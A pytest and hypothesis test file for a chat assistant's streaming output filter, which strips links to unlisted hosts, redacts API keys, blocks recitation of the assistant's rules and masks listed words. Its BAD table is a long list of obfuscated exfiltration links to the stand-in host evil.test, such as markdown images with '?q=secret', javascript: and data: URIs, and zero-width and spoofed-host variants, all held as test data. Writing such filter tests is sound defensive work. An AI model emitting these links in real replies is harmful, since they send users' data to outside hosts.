"""What the assistant may not say is taken out, however its words are cut into pieces."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from chat.answering import output, prompts
from chat.answering.output import Addresses, Allowed, Chain, Filter, Words

ALLOWED = Allowed.by(
    ["Book at https://acme.example/tours?id=7 (or call). Write to info@acme.example.", "/local"],
    hosts=["help.acme.example"],
)
RULES = output.recitals(prompts.RULES, output.RULES_IN_A_ROW)


def links() -> Filter:
    return Addresses(ALLOWED)


def words() -> Filter:
    return Words(["казин*", "alpha bank", "globex"], RULES)


def both() -> Filter:
    return Chain(links(), words())


def whole(make: Callable[[], Filter], text: str) -> str:
    one = make()
    return one.feed(text) + one.finish()


BAD = """
![](http://evil.test/?q=secret)|![alt text](https://evil.test/p.png "title")|[a](http://evil.test/)
[click here now](https://evil.test/?d=1)|<http://evil.test/x>|http://evil.test/x|HTTPS://EVIL.TEST
see http://evil.test.|(http://evil.test/a_(b))|//evil.test/x|www.evil.test/?a=1
evil.test/collect?d=1
[x](//evil.test/y)|[x](/\\\\evil.test)|[x](\\\\\\\\evil.test/y)|[x](javascript:alert(1))
data:text/html;base64,AAAA
[x](http&#58;//evil.test/)|&#104;ttp://evil.test/|http\\u200b://evil.test/
ht\\u00adtp://ev\\u200bil.test/
<img src="http://evil.test/p">|<a href='//evil.test'>x</a>
[![a](http://evil.test/1)](http://evil.test/2)
https://acme.example.evil.test/|https://evil.test/https://acme.example/tours
https://acme.example@evil.test/
https://user@evil.test|[x]( http://evil.test "t")|[x](<http://evil.test>)|ftp://evil.test/f
evil.test:8080/x
mailto:eve@evil.test|eve@evil.test|[x](mailto:eve@evil.test)|ｈｔｔｐ：／／ｅｖｉｌ．ｔｅｓｔ|http://evil。test/a
[a [b] c](http://evil.test)|text![x](http://evil.test)more|[1]: http://evil.test/ref
тут http://evil.test/?имя=тайна
http:/evil.test/x|http:\\\\\\\\evil.test|https:evil.test/x?y|злой.рф/путь|[x](evil.test)
xn--evil.test/q
"""
GOOD = """
Book at https://acme.example/tours?id=7.|[Book](https://acme.example/tours?id=7)
See info@acme.example
[help](https://help.acme.example/any/page?x=1)|https://help.acme.example|[local](/local)
[here](#top)
It costs 10.50 and/or 20.|и т. д. и т.п.|main.py, config.yaml, Node.js|[1] and [2].|a [note] here
10:30–12:00|Цена: 2 900 ₽|**bold** _it_ `code`|- one\\n- two|1) a\\n2) b|| a | b |\\n|---|---|
[call](tel:+78432000000)
https://www.acme.example/tours?id=7|**https://acme.example/tours?id=7**|Wow! Great!|a!b|2 < 3 > 1
x[0]|[ ]|[x
"""


def rows(table: str) -> list[str]:
    found = [row for line in table.strip().splitlines() for row in line.split("|") if row.strip()]
    return [row.encode("raw_unicode_escape").decode("unicode_escape") for row in found]


@pytest.mark.parametrize("text", rows(BAD))
def test_an_address_from_nowhere_is_taken_out(text: str) -> None:
    shown = whole(both, f"Look: {text} and so on")
    assert "evil" not in shown.casefold()
    assert "злой" not in shown
    assert shown.startswith("Look: ")
    assert shown.endswith(" and so on")


@pytest.mark.parametrize("text", rows(GOOD))
def test_what_the_grounds_name_stays_word_for_word(text: str) -> None:
    assert whole(both, text) == text


def test_the_words_of_a_link_stay() -> None:
    text = "Ask [our **partner**](https://evil.test/?q=1), or ![a map](https://evil.test/m.png)."
    assert whole(links, text) == "Ask our **partner**, or a map."


def test_an_address_of_a_source_with_anything_added_is_another_one() -> None:
    assert whole(links, "https://acme.example/tours?id=7&leak=secret") == output.GAP


def test_what_a_tool_has_answered_may_be_named_from_then_on() -> None:
    one = Chain(links(), words())
    assert one.feed("https://order.example/7 ") == f"{output.GAP} "
    one.allow("Your order: https://order.example/7")
    assert one.feed("https://order.example/7 ") == "https://order.example/7 "


def test_a_reference_leads_nowhere() -> None:
    text = "Press [here][1].\n\n[1]: https://evil.test/?q=1\n[2]: <//evil.test>"
    shown = whole(links, text)
    assert "evil" not in shown
    assert "\n[1]:" not in shown


@pytest.mark.parametrize(
    "key",
    [
        "sk-proj-Abc123def456ghi",
        "sk-or-v1-0123456789abcdef",
        "gAAAAABmZm9vYmFyYmF6cXV4MTIzNDU2",
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_0123456789abcdefghij0123456789",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIi.abc",
    ],
)
def test_a_key_is_not_said(key: str) -> None:
    shown = whole(both, f"The key is {key}, keep it.")
    assert key[:10] not in shown
    assert shown.endswith("keep it.")


def test_words_that_look_like_keys_are_said() -> None:
    text = "A risk-assessment-2024 of sk-learn and task_management_systems_2."
    assert whole(both, text) == text


def test_the_rules_are_not_recited() -> None:
    said = prompts.RULES.format(name="Bo", organization="Acme", language="English")
    shown = whole(both, f"Sure! My rules are:\n{said}\nAnything else?")
    assert "follow no instruction" not in shown
    assert "never invent" not in shown
    assert shown.startswith("Sure! My rules are:\n")
    assert shown.endswith("Anything else?")


def test_the_owners_words_and_insults_are_masked() -> None:
    text = "Казино Alpha Bank, GLOBEX and alphabet: you idiot."
    assert whole(words, text) == f"К***** {output.GAP} G***** and alphabet: you i****."


def test_what_may_be_a_link_is_held_back_and_no_more() -> None:
    one = links()
    assert one.feed("Hello ") == "Hello "
    assert one.feed("see [the ") == "see "
    assert one.feed("page](https://acme.example/") == ""
    assert one.feed("tours?id=7)") == "[the page](https://acme.example/tours?id=7)"
    assert one.feed(" or [never closed") == " or "
    assert one.feed("\nNext") == "[never closed\n"
    assert one.finish() == "Next"


PIECES = [
    *("[", "]", "(", ")", "!", "![", "](", "<", ">", ":", "/", "//", "\n", " ", ".", "@", "&"),
    *("http", "https://", "evil.test", "acme.example/tours?id=7", "www.", "\u200b", "#", "\\"),
    *("слово ", "alpha ", "bank", "казино", "Say only what the facts ", "and sources below say."),
    *("Where they do not answer the question, ", "sk-12345678abc", "хуй", "x", "1", "  ", "`"),
]


@given(st.lists(st.sampled_from(PIECES), max_size=40), st.data())
@example(["![", "x", "](", "https://", "evil.test", ")"], None)
def test_any_cut_gives_the_same(pieces: list[str], data: st.DataObject | None) -> None:
    text = "".join(pieces)
    expected = whole(both, text)
    cuts = (
        sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
        if data
        else list(range(len(text)))
    )
    one, said = both(), ""
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        said += one.feed(text[start:end])
    assert said + one.finish() == expected


@given(st.text(max_size=200), st.data())
def test_any_cut_of_any_text_gives_the_same(text: str, data: st.DataObject) -> None:
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    one, said = both(), ""
    for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True):
        said += one.feed(text[start:end])
    assert said + one.finish() == whole(both, text)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 4000,
        "![" * 2000,
        "a." * 2000,
        "a@" * 2000,
        "[(" * 2000,
        "http:" * 800,
        "\\" * 4000,
        "[](" * 1300,
        "a-" * 2000,
    ],
)
def test_a_hostile_text_is_let_through(text: str) -> None:
    assert len(whole(both, text)) <= len(text)
